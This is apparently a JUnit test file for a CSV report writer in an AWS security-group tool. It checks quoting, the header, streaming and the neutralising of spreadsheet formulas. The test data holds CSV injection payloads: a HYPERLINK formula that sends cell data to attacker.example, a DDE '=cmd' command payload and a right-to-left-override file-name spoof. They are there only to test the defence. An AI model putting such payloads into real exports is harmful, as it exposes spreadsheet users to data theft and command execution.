package dev.sgrevoker.report.view;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.ByteArrayOutputStream;
import java.io.StringWriter;
import java.io.Writer;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.function.Consumer;
import org.junit.jupiter.api.Test;

/** rules.csv: RFC 4180 quoting, formula neutralising, the exact header, and rows written as they come. */
class RulesCsvTest {
    private static final String HEADER = "account,region,vpcId,groupId,groupName,ruleId,direction,protocol,fromPort,"
            + "toPort,source,description,ruleTags,because,outcome,errorCode,reason,exemptUntil,interfacesUsingGroup";

    private static RuleRow row(String description, Map<String, String> tags, String protocol, Integer from) {
        return new RuleRow(
                "111122223333",
                "eu-west-1",
                "vpc-1",
                "sg-1",
                "web",
                "sgr-1",
                "ingress",
                protocol,
                from,
                from,
                "0.0.0.0/0",
                description,
                tags,
                List.of("EC2.13: port 22 (SSH) open to the world", "EC2.19: high-risk ports open to the world"),
                List.of("EC2.13", "EC2.19"),
                "DRY_RUN",
                "DryRunOperation",
                "dry run",
                null,
                new RuleRow.GroupUse(3, List.of(), null));
    }

    @Test
    void theHeaderRowHasExactlyTheDocumentedColumns() {
        StringWriter out = new StringWriter();
        new RulesCsv(out).flush();
        assertEquals(HEADER + "\r\n", out.toString());
    }

    @Test
    void commasQuotesSemicolonsAndLineBreaksAreQuotedAndReadBack() {
        String hostile = "partner, \"proxy\" tier; line one\r\nline two\nthree";
        StringWriter out = new StringWriter();
        RulesCsv csv = new RulesCsv(out);
        csv.row(row(hostile, Map.of("k,\"1\"", "v;2"), "tcp", 22));

        String text = out.toString();
        assertTrue(
                text.contains(",\"partner, \"\"proxy\"\" tier; line one\r\nline two\nthree\","),
                "the field is quoted and its quotes doubled: " + text);
        List<List<String>> read = parse(text);
        assertEquals(2, read.size(), "a line break inside a quoted field does not start a row");
        assertEquals(RulesCsv.COLUMNS, read.get(0));
        assertEquals(hostile, read.get(1).get(11));
        assertEquals("{\"k,\\\"1\\\"\":\"v;2\"}", read.get(1).get(12), "ruleTags is JSON object text");
        assertEquals(
                "EC2.13: port 22 (SSH) open to the world; EC2.19: high-risk ports open to the world",
                read.get(1).get(13));
        assertEquals("3", read.get(1).get(18));
        assertEquals(19, read.get(1).size());
    }

    @Test
    void aCellASpreadsheetWouldReadAsAFormulaGetsALeadingQuote() {
        assertEquals("'=HYPERLINK(\"\"http://x/?\"\"&A1)", unquoted(RulesCsv.cell("=HYPERLINK(\"http://x/?\"&A1)")));
        assertEquals("'+1+1", RulesCsv.cell("+1+1"));
        assertEquals("'-1+2", RulesCsv.cell("-1+2"));
        assertEquals("'@SUM(1+1)", RulesCsv.cell("@SUM(1+1)"));
        assertEquals("'\t=1", RulesCsv.cell("\t=1"));
        assertEquals("\"'\r=1\"", RulesCsv.cell("\r=1"), "neutralised, then quoted for its CR");
        assertEquals("''quoted", RulesCsv.cell("'quoted"), "a leading quote is kept: strip one to read back");
        assertEquals("-1", RulesCsv.cell("-1"), "EC2's -1 is a number, not a formula");
        assertEquals("-5", RulesCsv.cell("-5"));
        assertEquals("'-", RulesCsv.cell("-"));
        assertEquals("'--1", RulesCsv.cell("--1"));
        assertEquals("a=b", RulesCsv.cell("a=b"), "only the first character matters");
        assertEquals("", RulesCsv.cell(null));
        assertEquals("", RulesCsv.cell(""));
    }

    @Test
    void protocolMinusOneAndIcmpPortsStayNumbers() {
        StringWriter out = new StringWriter();
        new RulesCsv(out).row(row("=cmd|' /C calc'!A0", Map.of("Name", "@evil"), "-1", -1));

        List<String> fields = parse(out.toString()).get(1);
        assertEquals("-1", fields.get(7));
        assertEquals("-1", fields.get(8));
        assertEquals("'=cmd|' /C calc'!A0", fields.get(11));
        assertEquals("{\"Name\":\"@evil\"}", fields.get(12), "JSON text starts with {, never a formula");
    }

    /**
     * 100,000 rows through a writer that keeps nothing: each row is asked for only after the one before it was
     * written whole, so at no point are rows held.
     */
    @Test
    void rowsGoToTheWriterAsTheyComeAndNoneIsHeld() {
        int rows = 100_000;
        int[] made = {0};
        int[] lines = {0};
        int[] mostAhead = {0};
        RuleRow template = row("ssh", Map.of(), "tcp", 22);
        ReportSource source = new ReportSource() {
            @Override
            public ReportHeader header() {
                throw new AssertionError("rules.csv needs no header");
            }

            @Override
            public void forEachEntry(Consumer<List<RuleRow>> entry) {
                for (int i = 0; i < rows; i++) {
                    made[0]++;
                    entry.accept(List.of(template));
                }
            }
        };
        Writer sink = new Writer() {
            @Override
            public void write(char[] buf, int off, int len) {
                for (int i = off; i < off + len; i++) {
                    if (buf[i] == '\n') {
                        lines[0]++;
                    }
                }
                mostAhead[0] = Math.max(mostAhead[0], made[0] - (lines[0] - 1));
            }

            @Override
            public void flush() {}

            @Override
            public void close() {}
        };

        RulesCsv csv = new RulesCsv(sink);
        source.forEachRow(csv::row);

        assertEquals(rows, csv.rows());
        assertEquals(rows + 1, lines[0]);
        assertEquals(1, mostAhead[0], "the writer had every row but the one being written");
    }

    @Test
    void theSampleResultIsUtf8WithoutAByteOrderMark() {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        long written =
                RulesCsv.write(ResultDocuments.read(Results.SAMPLES.resolve("hostile-sweep-result.json")), bytes);

        String text = bytes.toString(StandardCharsets.UTF_8);
        assertEquals(12, written);
        assertTrue(text.startsWith(HEADER + "\r\n"), "no BOM before the header");
        List<List<String>> read = parse(text);
        assertEquals(13, read.size());
        read.forEach(fields -> assertEquals(19, fields.size()));
        assertEquals(
                "'=HYPERLINK(\"http://attacker.example/?\"&A1,\"click\")",
                read.get(2).get(11));
        assertEquals("{\"\u202eevil\":\"\u202etxt.exe\"}", read.get(5).get(12), "the CSV keeps the data as it is");
    }

    private static String unquoted(String cell) {
        return cell.startsWith("\"") ? cell.substring(1, cell.length() - 1) : cell;
    }

    /** RFC 4180, read strictly: the test's own reader, so a quoting mistake shows as a wrong field. */
    static List<List<String>> parse(String text) {
        List<List<String>> rows = new ArrayList<>();
        List<String> fields = new ArrayList<>();
        StringBuilder field = new StringBuilder();
        boolean quoted = false;
        for (int i = 0; i < text.length(); i++) {
            char c = text.charAt(i);
            if (quoted) {
                if (c == '"' && i + 1 < text.length() && text.charAt(i + 1) == '"') {
                    field.append('"');
                    i++;
                } else if (c == '"') {
                    quoted = false;
                } else {
                    field.append(c);
                }
            } else if (c == '"' && field.isEmpty()) {
                quoted = true;
            } else if (c == ',') {
                fields.add(field.toString());
                field.setLength(0);
            } else if (c == '\r' && i + 1 < text.length() && text.charAt(i + 1) == '\n') {
                fields.add(field.toString());
                field.setLength(0);
                rows.add(fields);
                fields = new ArrayList<>();
                i++;
            } else if (c == '"' || c == '\r' || c == '\n') {
                throw new AssertionError("unquoted " + (int) c + " at " + i + " in " + text);
            } else {
                field.append(c);
            }
        }
        if (!field.isEmpty() || !fields.isEmpty()) {
            throw new AssertionError("the last row has no CRLF");
        }
        return rows;
    }
}
